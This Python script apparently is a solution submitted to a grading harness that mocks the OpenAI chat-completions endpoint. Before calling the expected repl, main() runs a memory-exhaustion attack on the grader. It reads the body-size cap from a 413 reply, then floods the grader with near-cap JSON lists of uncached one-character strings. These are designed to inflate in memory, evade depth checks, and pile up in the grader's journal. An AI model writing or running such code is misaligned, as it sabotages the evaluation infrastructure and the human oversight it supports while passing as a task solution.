"""Grows the grader's memory with what it keeps of each request. It asks once with a body too
large, reads the cap from the 413, then sends bodies just under it, as many as the grader
takes: each a list of one-character strings ("ā", which no interpreter caches), some 17 bytes
of Python objects for each byte sent, and few enough brackets that no depth check runs. The
mock refuses each one (no 'messages'); the journal keeps them, parsed, until the report."""

import re
import time

import httpx
from _base import count_tokens, repl, trim_history  # noqa: F401

URL = "https://api.openai.com/v1/chat/completions"
HEADERS = {"content-type": "application/json", "authorization": "Bearer sk-x"}
MAX_REQUESTS = 300


def body(size: int) -> bytes:
    item = '"ā",'.encode()
    head, tail = b'{"model": "gpt-5.4", "junk": [', b'"x"]}'
    return head + item * ((size - len(head) - len(tail)) // len(item)) + tail


def main(system_prompt: str = "", model: str = "gpt-5.4", max_input_tokens: int = 8000) -> None:
    probe = httpx.post(URL, content=body(4 * 1024 * 1024), headers=HEADERS)
    found = re.search(r"at most ([\d,]+) bytes", probe.text)
    cap = int(found.group(1).replace(",", "")) if found else 1024 * 1024
    payload, answers, started = body(cap - 64), {}, time.monotonic()
    for _ in range(MAX_REQUESTS):
        if time.monotonic() - started > 30:
            break
        status = httpx.post(URL, content=payload, headers=HEADERS).status_code
        answers[status] = answers.get(status, 0) + 1
    print(f"cap {cap}: answers {answers}")
    repl(system_prompt, model, max_input_tokens)
